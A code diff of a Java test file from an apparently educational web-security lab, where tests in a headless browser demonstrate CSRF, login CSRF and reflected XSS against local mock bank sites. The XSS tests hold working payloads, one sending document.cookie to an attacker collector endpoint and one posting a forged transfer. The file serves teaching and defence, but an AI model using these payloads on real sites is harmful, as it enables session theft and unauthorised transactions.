@@ -6,17 +6,13 @@ import com.github.tomakehurst.wiremock.stubbing.ServeEvent;
 import java.net.URI;
 import java.net.URLEncoder;
 import java.nio.charset.StandardCharsets;
-import java.nio.file.Path;
 import java.util.List;
-import java.util.Optional;
-import org.junit.jupiter.api.AfterAll;
-import org.junit.jupiter.api.BeforeAll;
-import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.DisplayName;
 import org.junit.jupiter.api.MethodOrderer;
 import org.junit.jupiter.api.Order;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.TestMethodOrder;
+import org.junit.jupiter.api.extension.RegisterExtension;
 
 /**
  * The browser side of module 04's attacks, in a real browser: what a forged cross-site form POST carries, login CSRF,
@@ -26,47 +22,20 @@ import org.junit.jupiter.api.TestMethodOrder;
 @TestMethodOrder(MethodOrderer.OrderAnnotation.class)
 class BrowserAttacksTest {
 
-    private static Optional<Path> found;
-    private static LabSites sites;
-    private static HeadlessBrowser browser;
+    @RegisterExtension
+    static final BrowserLab LAB = new BrowserLab();
 
-    @BeforeAll
-    static void start() {
-        found = LabSites.findBrowser();
-        if (found.isEmpty()) {
-            return;
-        }
-        sites = LabSites.start();
-        browser = HeadlessBrowser.launch(found.get());
-    }
-
-    @AfterAll
-    static void stop() {
-        if (browser != null) {
-            browser.close();
-        }
-        if (sites != null) {
-            sites.close();
-        }
-    }
-
-    @BeforeEach
-    void cleanBrowser() {
-        LabSites.assumeBrowser(found);
-        browser.reset();
-        sites.clearExchanges();
-    }
 
     @Test
     @Order(1)
     @DisplayName("CSRF: a cross-site form POST carries the victim's SameSite=None cookie, and says where it came from")
     void aForgedPostCarriesSameSiteNoneCookies() {
-        browser.navigate(sites.bank("/lab/login"));
-        browser.navigate(sites.crossSite("/lab/form"));
-        browser.clearRequests();
-        browser.submitForm("#f");
-        SeenRequest forged = browser.requestsTo("/lab/transfer").get(0);
-        ServeEvent received = sites.bankReceived("/lab/transfer").get(0);
+        LAB.browser().navigate(LAB.sites().bank("/lab/login"));
+        LAB.browser().navigate(LAB.sites().crossSite("/lab/form"));
+        LAB.browser().clearRequests();
+        LAB.browser().submitForm("#f");
+        SeenRequest forged = LAB.browser().requestsTo("/lab/transfer").get(0);
+        ServeEvent received = LAB.sites().bankReceived("/lab/transfer").get(0);
 
         assertThat(forged.sent("none")).as("a cookie the bank marked SameSite=None goes with the attacker's POST: "
                 + "the bank sees a signed-in transfer it never asked for. " + forged).isTrue();
@@ -74,7 +43,7 @@ class BrowserAttacksTest {
         assertThat(received.getRequest().getHeader("Cookie")).as("the server received what the browser reported")
                 .isEqualTo(forged.cookieHeader().orElseThrow());
         assertThat(forged.header("Origin")).as("the defence's evidence: Origin names the attacker's site")
-                .hasValue("http://localhost:" + sites.other.port());
+                .hasValue("http://localhost:" + LAB.sites().other.port());
         assertThat(forged.header("Sec-Fetch-Site")).hasValue("cross-site");
     }
 
@@ -82,14 +51,14 @@ class BrowserAttacksTest {
     @Order(2)
     @DisplayName("CSRF: a page's script cannot read the answer to its cross-site request, but the request is sent with cookies")
     void aScriptsCrossSiteRequestIsSentEvenIfItsAnswerIsHidden() {
-        browser.navigate(sites.bank("/lab/login"));
-        browser.navigate(sites.crossSite("/lab/fetch"));
-        String outcome = browser.evaluate("fetch('" + sites.bank("/lab/transfer") + "', {method: 'POST',"
+        LAB.browser().navigate(LAB.sites().bank("/lab/login"));
+        LAB.browser().navigate(LAB.sites().crossSite("/lab/fetch"));
+        String outcome = LAB.browser().evaluate("fetch('" + LAB.sites().bank("/lab/transfer") + "', {method: 'POST',"
                 + " credentials: 'include', body: 'to=mallory'}).then(r => 'read ' + r.status, e => 'blocked: ' + e.message)");
-        SeenRequest sent = browser.requestsTo("/lab/transfer").get(0);
+        SeenRequest sent = LAB.browser().requestsTo("/lab/transfer").get(0);
 
         assertThat(outcome).as("CORS hides the answer from the attacker's script").startsWith("blocked");
-        assertThat(sites.bankReceived("/lab/transfer")).as("yet the bank received the POST: the same-origin policy"
+        assertThat(LAB.sites().bankReceived("/lab/transfer")).as("yet the bank received the POST: the same-origin policy"
                 + " protects reading, not sending (why CSRF needs a server-side defence)").hasSize(1);
         assertThat(sent.sent("none")).as("with the SameSite=None cookie, since third-party cookies are allowed. " + sent)
                 .isTrue();
@@ -100,14 +69,14 @@ class BrowserAttacksTest {
     @Order(3)
     @DisplayName("Login CSRF: a cross-site form signs the victim's browser in to the attacker's account")
     void loginCsrfPlantsTheAttackersSession() {
-        browser.navigate(sites.crossSite("/lab/login-csrf"));
-        browser.submitForm("#f");
+        LAB.browser().navigate(LAB.sites().crossSite("/lab/login-csrf"));
+        LAB.browser().submitForm("#f");
 
-        assertThat(browser.cookie("session")).as("the answer to a cross-site top-level POST may set cookies, SameSite=Lax"
+        assertThat(LAB.browser().cookie("session")).as("the answer to a cross-site top-level POST may set cookies, SameSite=Lax"
                 + " ones too: the victim now works in the attacker's account (a CSRF token on the login form, or an"
                 + " Origin check, stops it; SameSite does not)")
                 .hasValueSatisfying(c -> assertThat(c.value()).isEqualTo("attacker-account"));
-        assertThat(sites.bankReceived("/lab/sign-in").get(0).getRequest().getBodyAsString())
+        assertThat(LAB.sites().bankReceived("/lab/sign-in").get(0).getRequest().getBodyAsString())
                 .isEqualTo("user=attacker&password=attackers-own-password");
     }
 
@@ -115,14 +84,14 @@ class BrowserAttacksTest {
     @Order(4)
     @DisplayName("XSS: an injected script reads every cookie but the HttpOnly ones, and sends them to the attacker")
     void xssReadsTheCookiesThatAreNotHttpOnly() {
-        browser.navigate(sites.bank("/lab/login"));
-        String steal = "<script>new Image().src = 'http://localhost:" + sites.other.port()
+        LAB.browser().navigate(LAB.sites().bank("/lab/login"));
+        String steal = "<script>new Image().src = 'http://localhost:" + LAB.sites().other.port()
                 + "/lab/collect?c=' + encodeURIComponent(document.cookie);</script>";
-        browser.navigate(URI.create(sites.bank("/lab/search") + "?q=" + URLEncoder.encode(steal, StandardCharsets.UTF_8)));
-        List<SeenRequest> exfiltration = browser.requestsTo("/lab/collect");
+        LAB.browser().navigate(URI.create(LAB.sites().bank("/lab/search") + "?q=" + URLEncoder.encode(steal, StandardCharsets.UTF_8)));
+        List<SeenRequest> exfiltration = LAB.browser().requestsTo("/lab/collect");
 
         assertThat(exfiltration).as("the reflected script ran in the bank's page and sent document.cookie away").hasSize(1);
-        String stolen = sites.otherReceived("/lab/collect").get(0).getRequest().queryParameter("c").firstValue();
+        String stolen = LAB.sites().otherReceived("/lab/collect").get(0).getRequest().queryParameter("c").firstValue();
         assertThat(stolen).as("document.cookie gives a script every cookie of the page that is not HttpOnly")
                 .contains("lax=1", "strict=1", "secure=1");
         assertThat(stolen).as("HttpOnly keeps the cookie out of the attacker's hands (OWASP Session Management cheat"
@@ -133,10 +102,10 @@ class BrowserAttacksTest {
     @Order(5)
     @DisplayName("XSS: HttpOnly does not stop the injected script from acting as the user: its own requests carry the cookie")
     void xssRequestsStillCarryHttpOnlyCookies() {
-        browser.navigate(sites.bank("/lab/login"));
+        LAB.browser().navigate(LAB.sites().bank("/lab/login"));
         String act = "<script>fetch('/lab/transfer', {method: 'POST', body: 'to=mallory'});</script>";
-        browser.navigate(URI.create(sites.bank("/lab/search") + "?q=" + URLEncoder.encode(act, StandardCharsets.UTF_8)));
-        browser.evaluate("new Promise(r => setTimeout(() => r('settled'), 0))");
+        LAB.browser().navigate(URI.create(LAB.sites().bank("/lab/search") + "?q=" + URLEncoder.encode(act, StandardCharsets.UTF_8)));
+        LAB.browser().evaluate("new Promise(r => setTimeout(() => r('settled'), 0))");
         SeenRequest transfer = awaitOne("/lab/transfer");
 
         assertThat(transfer.method()).isEqualTo("POST");
@@ -149,13 +118,13 @@ class BrowserAttacksTest {
     // The injected fetch runs on its own after the page loads: wait (bounded) until the browser reports it.
     private static SeenRequest awaitOne(String path) {
         for (int attempt = 0; attempt < 20; attempt++) {
-            List<SeenRequest> seen = browser.requestsTo(path);
+            List<SeenRequest> seen = LAB.browser().requestsTo(path);
             if (!seen.isEmpty() && seen.get(0).sentHeadersKnown()) {
                 return seen.get(0);
             }
-            browser.evaluate("new Promise(r => setTimeout(() => r('tick'), 100))");
+            LAB.browser().evaluate("new Promise(r => setTimeout(() => r('tick'), 100))");
         }
         throw new AssertionError("The page's script made no request to " + path + " within 2 s; requests seen: "
-                + browser.requests());
+                + LAB.browser().requests());
     }
 }
